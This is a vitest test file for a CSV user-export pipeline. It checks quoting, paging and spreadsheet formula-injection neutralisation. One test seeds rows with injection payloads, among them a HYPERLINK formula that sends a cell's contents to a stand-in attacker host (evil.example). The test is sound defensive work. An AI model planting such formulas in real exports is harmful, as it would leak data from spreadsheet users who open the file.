import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { streamUsersForExport, upsertUsers } from '../src/db/users.js';
import type { UserRow } from '../src/core/model.js';
import { exportOutput } from '../src/pipeline/exportOutput.js';
import type { TestDatabase } from './support/database.js';
import { createTestDatabase } from './support/database.js';
import { readText } from './support/fixtures.js';
import type { Backend } from './support/stores.js';
import { startFolderBackend } from './support/stores.js';
import { csvSource } from './support/rows.js';

const row = (i: number): UserRow => ({
  userId: `u${String(i).padStart(5, '0')}`,
  firstName: i % 7 === 0 ? `Quote "${i}", comma` : `First${i}`,
  lastName: `Last${i}`,
  birthts: -1000 + i,
  imgPath: i % 2 === 0 ? `src/u${i}.png` : null,
  imgFormat: i % 2 === 0 ? 'png' : null,
  imgWidth: i % 2 === 0 ? 8 : null,
  imgHeight: i % 2 === 0 ? 8 : null,
  source: csvSource(`u${i}`),
});

describe('exportOutput', () => {
  let db: TestDatabase;
  let backend: Backend;
  beforeAll(async () => {
    db = await createTestDatabase();
    backend = await startFolderBackend();
    await backend.store.ensureBucket('res');
  });
  afterAll(async () => {
    await db.drop();
    await backend.stop();
  });

  it('writes only the header when there are no users', async () => {
    expect((await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: true })).rows).toBe(0);
    expect(await readText(backend, 'res', 'output.csv')).toBe('user_id,first_name,last_name,birthts,img_path\r\n');
  });

  it('writes every user once, in order, across pages, with RFC 4180 quoting and CRLF', async () => {
    // More than one 5,000-row page, and not a multiple of it.
    const n = 12_345;
    await upsertUsers(db.pool, Array.from({ length: n }, (_, i) => row(i)));
    const progress: number[] = [];
    expect((await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: true, onRows: (w) => progress.push(w) })).rows).toBe(n);
    expect(progress).toEqual([5000, 10_000, n]);
    const lines = (await readText(backend, 'res', 'output.csv')).split('\r\n');
    expect(lines).toHaveLength(n + 2);
    expect(lines.at(-1)).toBe('');
    expect(lines[1]).toBe('u00000,"Quote ""0"", comma",Last0,-1000,src/u0.png');
    expect(lines[2]).toBe('u00001,First1,Last1,-999,');
    expect(lines[n]).toBe(`u12344,First12344,Last12344,${-1000 + 12344},src/u12344.png`);
  });

  it('pages end cleanly when the count is a multiple of the page size', async () => {
    const pages: number[] = [];
    for await (const page of streamUsersForExport(db.pool, 12_345 / 5)) pages.push(page.length);
    expect(pages).toEqual([2469, 2469, 2469, 2469, 2469]);
  });

  it('neutralizes text cells a spreadsheet would run with a leading \' (numbers stay); off, it writes exact values', async () => {
    await db.pool.query('TRUNCATE users');
    const hostile = (userId: string, firstName: string, lastName: string, birthts: number, imgPath: string | null): UserRow => ({
      ...row(0),
      userId,
      firstName,
      lastName,
      birthts,
      imgPath,
    });
    // Tab and CR never get past the input rules; the writer neutralizes them all the same.
    await upsertUsers(db.pool, [
      hostile('=cmd', '=HYPERLINK("http://evil.example/?x="&B2,"open")', '+1', -1000, '=res/=cmd.png'),
      hostile('a', '-2', '@SUM(A1)', 0, '@x.png'),
      hostile('b', '\tx', '\rx', -5, null),
      hostile('c', 'Ann-Marie', "O'Neil", 1000, 'src/c.png'),
    ]);
    await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: true });
    expect(await readText(backend, 'res', 'output.csv')).toBe(
      'user_id,first_name,last_name,birthts,img_path\r\n' +
        `'=cmd,"'=HYPERLINK(""http://evil.example/?x=""&B2,""open"")",'+1,-1000,'=res/=cmd.png\r\n` +
        `a,'-2,'@SUM(A1),0,'@x.png\r\n` +
        `b,'\tx,"'\rx",-5,\r\n` +
        `c,Ann-Marie,O'Neil,1000,src/c.png\r\n`,
    );

    await exportOutput(db.pool, backend.store, 'res', { neutralizeFormulas: false });
    expect(await readText(backend, 'res', 'output.csv')).toBe(
      'user_id,first_name,last_name,birthts,img_path\r\n' +
        '=cmd,"=HYPERLINK(""http://evil.example/?x=""&B2,""open"")",+1,-1000,=res/=cmd.png\r\n' +
        'a,-2,@SUM(A1),0,@x.png\r\n' +
        'b,\tx,"\rx",-5,\r\n' +
        "c,Ann-Marie,O'Neil,1000,src/c.png\r\n",
    );
  });
});
